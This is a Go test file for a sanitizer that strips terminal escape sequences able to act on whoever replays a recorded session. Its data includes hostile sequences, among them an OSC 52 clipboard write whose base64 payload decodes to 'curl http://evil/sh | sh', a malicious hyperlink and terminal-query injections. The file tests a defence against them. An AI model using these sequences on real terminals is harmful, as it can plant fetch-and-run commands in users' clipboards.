package asciicast_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/jumpcast/jumpcast/recorder/asciicast"
)

// sanitize runs in through a Sanitizer, one Write per chunk, and returns
// what it passed on and how many sequences it dropped.
func sanitize(tb testing.TB, chunks ...string) (string, int) {
	tb.Helper()
	var out bytes.Buffer
	s := asciicast.NewSanitizer(&out)
	for _, c := range chunks {
		if n, err := s.Write([]byte(c)); err != nil || n != len(c) {
			tb.Fatalf("Write(%q) = %d, %v", c, n, err)
		}
	}
	if err := s.Close(); err != nil {
		tb.Fatal(err)
	}
	return out.String(), s.Dropped()
}

// TestSanitizerKeepsWhatDraws: what full-screen programs write to draw
// passes byte for byte.
func TestSanitizerKeepsWhatDraws(t *testing.T) {
	for _, tc := range []struct{ name, in string }{
		{"text, tabs, newlines, UTF-8", "héllo\tworld\r\n日本語 🙂\a\b"},
		{"SGR, 256 colours, truecolour with colons", "\x1b[0m\x1b[1;31m\x1b[38;5;208m\x1b[38:2::255:0:0mred\x1b[m"},
		{"cursor moves and erase", "\x1b[H\x1b[2J\x1b[10;20H\x1b[3A\x1b[2C\x1b[K\x1b[1K\x1b[J\x1b[5G\x1b[12d\x1b[4f"},
		{"insert, delete, scroll region, scroll", "\x1b[3@\x1b[2P\x1b[4L\x1b[1M\x1b[5X\x1b[2;20r\x1b[3S\x1b[2T\x1bM\x1bD\x1bE"},
		{"alternate screen, cursor, wrap, bracketed paste, sync", "\x1b[?1049h\x1b[?25l\x1b[?7h\x1b[?2004h\x1b[?2026h\x1b[?2026l\x1b[?1049l\x1b[?25h\x1b[?12;25h"},
		{"save and restore cursor, charsets, line drawing", "\x1b7\x1b8\x1b[s\x1b[u\x1b(0lqk\x1b(B\x1b)0\x0e\x0f\x1b#8"},
		{"cursor shape, soft reset, full reset, insert mode", "\x1b[2 q\x1b[!p\x1bc\x1b[4h\x1b[4l"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, dropped := sanitize(t, tc.in)
			if out != tc.in || dropped != 0 {
				t.Errorf("Sanitize(%q) = %q, dropped %d; want it unchanged", tc.in, out, dropped)
			}
		})
	}
}

// TestSanitizerDropsWhatActsOnTheAuditor: every sequence that acts outside
// the screen, asks the terminal a question or changes what the auditor's
// keys send is dropped whole, and counted once; the text around it stays.
func TestSanitizerDropsWhatActsOnTheAuditor(t *testing.T) {
	for _, tc := range []struct{ name, seq string }{
		{"OSC 52 clipboard, BEL", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\a"},
		{"OSC 52 clipboard, ST", "\x1b]52;c;Y3VybA==\x1b\\"},
		{"OSC 52 query", "\x1b]52;c;?\a"},
		{"OSC 0 title", "\x1b]0;pwned\a"},
		{"OSC 2 title", "\x1b]2;pwned\x1b\\"},
		{"OSC 8 hyperlink", "\x1b]8;;http://evil/\x1b\\"},
		{"OSC 11 background query", "\x1b]11;?\a"},
		{"OSC 1337 iTerm2 file", "\x1b]1337;File=name=eA==:eA==\a"},
		{"OSC 7 working directory", "\x1b]7;file://host/tmp\a"},
		{"DECRQSS", "\x1bP$qm\x1b\\"},
		{"XTGETTCAP", "\x1bP+q544e\x1b\\"},
		{"APC", "\x1b_Gf=100;AAAA\x1b\\"},
		{"PM", "\x1b^private\x1b\\"},
		{"SOS", "\x1bXstring\x1b\\"},
		{"DSR status", "\x1b[5n"},
		{"DSR cursor position", "\x1b[6n"},
		{"DEC DSR", "\x1b[?6n"},
		{"DA1", "\x1b[c"},
		{"DA1 with 0", "\x1b[0c"},
		{"DA2", "\x1b[>c"},
		{"DA3", "\x1b[=c"},
		{"DECRQM", "\x1b[?2004$p"},
		{"ANSI DECRQM", "\x1b[4$p"},
		{"XTVERSION", "\x1b[>q"},
		{"window title report", "\x1b[21t"},
		{"window size report", "\x1b[18t"},
		{"iconify window", "\x1b[2t"},
		{"title stack push", "\x1b[22;0t"},
		{"DECREQTPARM", "\x1b[x"},
		{"DECRQCRA checksum", "\x1b[1;1;1;1;1;1*y"},
		{"kitty keyboard query", "\x1b[?u"},
		{"kitty keyboard push", "\x1b[>1u"},
		{"modifyOtherKeys", "\x1b[>4;2m"},
		{"XTSMGRAPHICS query", "\x1b[?1;1;0S"},
		{"mouse tracking", "\x1b[?1000h"},
		{"SGR mouse", "\x1b[?1006h"},
		{"focus reporting", "\x1b[?1004h"},
		{"application cursor keys", "\x1b[?1h"},
		{"mixed modes with mouse", "\x1b[?1049;1000h"},
		{"132 columns resizes", "\x1b[?3h"},
		{"keyboard lock", "\x1b[2h"},
		{"local echo", "\x1b[12l"},
		{"printer controller", "\x1b[5i"},
		{"LEDs", "\x1b[1q"},
		{"mouse highlight tracking", "\x1b[1;2;3;4;5T"},
		{"XTRESTORE", "\x1b[?1049r"},
		{"conformance level", "\x1b[62;1\"p"},
		{"keypad application mode", "\x1b="},
		{"DECID", "\x1bZ"},
		{"8-bit controls", "\x1b G"},
		{"leave UTF-8", "\x1b%@"},
		{"ENQ answerback", "\x05"},
		{"NUL", "\x00"},
		{"DEL", "\x7f"},
		{"C1 CSI query", "\u009b6n"},
		{"C1 CSI SGR", "\u009b31m"},
		{"C1 OSC 52 with C1 ST", "\u009d52;c;eA==\u009c"},
		{"C1 DCS", "\u0090$qm\u009c"},
		{"C1 DECID", "\u009a"},
		{"raw 8-bit CSI", "\x9b6n"},
		{"CSI cut by CAN", "\x1b[6\x18"},
		{"overlong CSI", "\x1b[" + strings.Repeat("1;", 200) + "m"},
		{"CSI with a private marker inside", "\x1b[1?6n"},
		{"escape with three intermediates", "\x1b(((0"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, dropped := sanitize(t, "a", tc.seq, "b")
			if out != "ab" || dropped != 1 {
				t.Errorf("Sanitize(a %q b) = %q, dropped %d; want \"ab\", 1", tc.seq, out, dropped)
			}
		})
	}
}

// TestSanitizerSplitAnywhere: a sequence split across events (writes) is
// judged whole, at every split point.
func TestSanitizerSplitAnywhere(t *testing.T) {
	in := "x\x1b]52;c;Y3VybA==\x1b\\y\x1b[6n\x1b[1;31mz\x1bP$qm\x1b\\é\u009b6n🙂\x1b[?1049h"
	want, wantDropped := sanitize(t, in)
	if want != "xy\x1b[1;31mzé🙂\x1b[?1049h" || wantDropped != 4 {
		t.Fatalf("whole: %q, dropped %d", want, wantDropped)
	}
	for i := 0; i <= len(in); i++ {
		for j := i; j <= len(in); j++ {
			got, dropped := sanitize(t, in[:i], in[i:j], in[j:])
			if got != want || dropped != wantDropped {
				t.Fatalf("split at %d and %d: %q, dropped %d; want %q, %d", i, j, got, dropped, want, wantDropped)
			}
		}
	}
}

// TestSanitizerStringEnds: a string ends where a terminal ends it, and
// what follows is judged on its own.
func TestSanitizerStringEnds(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
		dropped        int
	}{
		{"ESC inside an OSC starts a sequence", "\x1b]0;t\x1b[6nA", "A", 2},
		{"ESC inside an OSC starts a kept sequence", "\x1b]0;t\x1b[1mA", "\x1b[1mA", 1},
		{"BEL does not end a DCS", "\x1bPq\a#0\x1b\\A", "A", 1},
		{"CAN ends an OSC", "\x1b]52;c;x\x18A", "A", 1},
		{"C1 ST ends an OSC", "\x1b]0;t\u009cA", "A", 1},
		{"another C1 ends an OSC and starts its own", "\x1b]0;t\u009b6nA", "A", 2},
		{"text inside a CSI ends it", "\x1b[3é", "é", 1},
		{"line feed inside a CSI runs in place", "\x1b[3\n1m", "\n\x1b[31m", 0},
		{"ENQ inside a CSI is dropped", "\x1b[3\x051m", "\x1b[31m", 1},
		{"unfinished OSC at the end", "A\x1b]52;c;eA==", "A", 1},
		{"unfinished CSI at the end", "A\x1b[3", "A", 1},
		{"lone ESC at the end", "A\x1b", "A", 1},
		{"invalid UTF-8 becomes U+FFFD", "A\xffB\xc3(", "A\uFFFDB\uFFFD(", 0},
		{"cut UTF-8 at the end", "A\xe6\x97", "A\uFFFD", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, dropped := sanitize(t, tc.in)
			if out != tc.want || dropped != tc.dropped {
				t.Errorf("Sanitize(%q) = %q, dropped %d; want %q, %d", tc.in, out, dropped, tc.want, tc.dropped)
			}
		})
	}
}

// TestSanitizerWriteError: the underlying writer's error is returned.
func TestSanitizerWriteError(t *testing.T) {
	s := asciicast.NewSanitizer(failWriter{})
	if _, err := s.Write([]byte("x")); err == nil {
		t.Error("Write to a failing writer succeeded")
	}
	if _, err := s.Write([]byte("\x1b[6n")); err != nil {
		t.Errorf("Write of only dropped bytes: %v", err)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errFail }

var errFail = &failError{}

type failError struct{}

func (*failError) Error() string { return "write failed" }
